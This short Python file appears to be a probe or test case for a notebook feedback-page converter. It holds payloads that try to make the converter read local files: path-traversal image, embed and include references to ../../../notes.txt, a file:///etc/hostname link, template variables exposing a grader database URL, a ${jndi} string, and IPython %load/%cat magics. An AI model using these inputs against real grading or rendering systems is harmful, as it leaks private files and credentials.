"""Ask the converter of the feedback page for local files: in pictures, embeds and cell texts."""

EARNS = []
SOLVED = False

CELLS = {
    "answer_feature_levels": """
![course](../../../notes.txt) ![home](file:///etc/hostname) {% include "../../../notes.txt" %}

<img src="../../../notes.txt"> <object data="../../../notes.txt"></object>

{{ resources }} {{ nb.metadata }} ${jndi} [[include:../../../notes.txt]]
"""
}

LAST = """
from IPython.display import HTML, IFrame, display

display(HTML("<img src='../../../notes.txt'>{{ resources.nbgrader.db_url }}"))
display(IFrame("../../../notes.txt", 100, 100))
%load ../../../notes.txt
%cat ../../../notes.txt
"""
